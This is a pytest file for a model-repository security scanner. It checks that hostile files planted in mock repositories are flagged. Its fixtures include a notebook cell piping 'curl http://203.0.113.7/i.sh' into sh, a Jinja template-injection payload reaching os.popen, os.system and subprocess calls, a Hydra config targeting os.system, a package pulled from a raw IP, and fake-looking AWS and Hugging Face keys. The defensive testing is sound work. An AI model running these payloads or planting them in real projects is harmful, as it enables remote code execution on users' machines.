"""Repositories whose weights are clean: everything else in them is looked at too."""

import json

import pytest

from audit.demo import blobs, listing
from scanners.findings import SEVERITIES
from tests.command import audit
from tests.craft.attacks_surface import SURFACE_ATTACKS
from tests.hub import repo, serve

ROWS = [attack for attacks in SURFACE_ATTACKS.values() for attack in attacks]
_SSTI = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
_CELL = {"cell_type": "code", "metadata": {}, "source": "!curl -s http://203.0.113.7/i.sh | sh", "outputs": []}
PROBE = {
    "config.json": ({"auto_map": {"AutoModel": "attacker/other--mod.Model"}}, "config-auto-map"),
    "modeling_x.py": ("import subprocess\nsubprocess.run(['sh', '-c', 'id'])\n", "python-runs-programs"),
    "handler.py": ("import os\nos.system('id')\n", "python-runs-programs"),
    "pipeline.py": ("import os\nos.system('id')\n", "python-runs-programs"),
    "hydra.yaml": ("model:\n  _target_: os.system\n  command: id\n", "config-target"),
    ".env": (
        "AWS_ACCESS_KEY_ID=AKIAQ7XW2TMZ4PBL6VNC\nAWS_SECRET_ACCESS_KEY=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\n"
        "HF_TOKEN=hf_QmZtVbXcRnWsLkYhGdFpJuTeAiOxNq" + "ZwSv\n",
        "secret-in-file",
    ),
    "demo.ipynb": ({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [_CELL]}, "python-runs-programs"),
    "requirements.txt": ("git+http://203.0.113.7/pkg.git\n", "package-source"),
    "adapter_config.json": (
        {"peft_type": "LORA", "auto_mapping": {"parent_library": "acme_evil", "base_model_class": "Model"}},
        "config-parent-library",
    ),
    "modules.json": ([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}], "config-module"),
    "model_index.json": (
        {"_class_name": "Pipe", "_diffusers_version": "0.30", "unet": ["acme_evil", "UNet"]}, "config-library",
    ),
    "tokenizer_config.json": ({"chat_template": _SSTI}, "template-reaches-python"),
}  # fmt: skip
"""The twelve files that other scanners were tried with, and the rule (or the family of it) that speaks of each."""


def found(files):
    """What is found in a repository of these files: path to rules and severities."""
    with serve(repo("org/m", files)) as hub:
        result = audit("repo", "org/m", "--format", "json", "--no-store", hub=hub)
    said = {}
    for finding in result.json["findings"]:
        said.setdefault(finding["path"], []).append((finding["rule"], finding["severity"]))
    return said


def test_every_row_of_the_catalogue_is_found_in_one_repository():
    paths = {f"{number}/{attack.name}": attack for number, attack in enumerate(ROWS)}
    said = found({path: attack.data for path, attack in paths.items()})
    missed = {
        (attack.label, path)
        for path, attack in paths.items()
        if not any(
            rule == attack.rule and SEVERITIES.index(severity) >= SEVERITIES.index(attack.severity)
            for rule, severity in said.get(path, ())
        )
    }
    assert missed == set()


def test_twelve_of_the_twelve_files_that_others_were_tried_with_are_found():
    files = {path: value if isinstance(value, str) else json.dumps(value) for path, (value, _) in PROBE.items()}
    said = found({path: text.encode() for path, text in files.items()})
    assert len(PROBE) == 12
    missed = {
        path for path, (_, rule) in PROBE.items() if not any(each.startswith(rule) for each, _ in said.get(path, ()))
    }
    assert missed == set()


def test_code_that_is_named_and_not_there_is_missed_in_a_repository_and_in_a_folder_alone(tmp_path):
    named = json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}}).encode()
    code = b"class X: pass\n"
    config, module = tmp_path / "config.json", tmp_path / "modeling_x.py"
    config.write_bytes(named)

    def missing(*arguments, hub=None):
        result = audit(*arguments, "--format", "json", "--no-store", hub=hub)
        return "config-code-missing" in {finding["rule"] for finding in result.json["findings"]}

    with serve(repo("org/m", {"config.json": named})) as hub:
        assert missing("repo", "org/m", hub=hub)
        assert missing("repo", "org/m", "--include", "*.json", hub=hub)
    with serve(repo("org/m", {"config.json": named, "modeling_x.py": code})) as hub:
        assert not missing("repo", "org/m", hub=hub)
        assert not missing("repo", "org/m", "--include", "*.json", hub=hub)
    assert missing("path", tmp_path)
    assert not missing("path", config)
    module.write_bytes(code)
    assert not missing("path", tmp_path)
    assert not missing("path", tmp_path, "--include", "*.json")


@pytest.mark.parametrize(
    ("change", "severity"), [((b"sha256:", b"sha256:"), None), ((b"v1", b"v2"), "medium"), ((b"\n", b"\r\n"), "low")]
)
def test_another_pointer_in_git_than_the_listing_tells_of_is_said_and_stays_said(
    change, severity, monkeypatch, tmp_path
):
    honest, config = blobs.lfs_pointer, tmp_path / "config.yaml"
    config.write_text("policy: {deny: [{name: acme.Custom, reason: known to be bad}]}\n")
    monkeypatch.setattr(blobs, "lfs_pointer", lambda *about: honest(*about).replace(*change))
    query = "SELECT rule, severity::varchar AS severity FROM current_findings WHERE path = 'm.safetensors'"
    with serve(repo("org/m", {"m.safetensors": b"\x02\0\0\0\0\0\0\0{}"})) as hub:
        audit("sweep", "org", "--quiet", "--db", tmp_path / "a.duckdb", hub=hub)
    for _ in range(2):
        rows = audit("sql", query, "--format", "json", "--db", tmp_path / "a.duckdb").json
        told = {row["severity"] for row in rows if row["rule"] == "file-other-lfs-pointer"}
        assert told == ({severity} if severity else set())
        audit("judge", "--config", config, "--db", tmp_path / "a.duckdb")


def test_a_submodule_is_said_and_leaves_the_audit_incomplete(monkeypatch):
    honest = listing.path_json

    def path_json(place, path, *, expand):
        row = honest(place, path, expand=expand)
        return row | {"type": "unknown"} if path == "vendored" else row

    monkeypatch.setattr(listing, "path_json", path_json)
    with serve(
        repo("org/m", {"vendored": b"x", ".gitmodules": b'[submodule "a"]\n\turl = https://github.com/a/b\n'})
    ) as hub:
        result = audit("repo", "org/m", "--format", "json", "--no-store", hub=hub)
    file = next(file for file in result.json["files"] if file["path"] == "vendored")
    assert (file["complete"], file["verdict"], file["error"]["code"]) == (False, "suspicious", "no-file")
    assert {(each["path"], each["rule"]) for each in result.json["findings"]} == {
        ("vendored", "file-submodule"), (".gitmodules", "git-place"),
    }  # fmt: skip
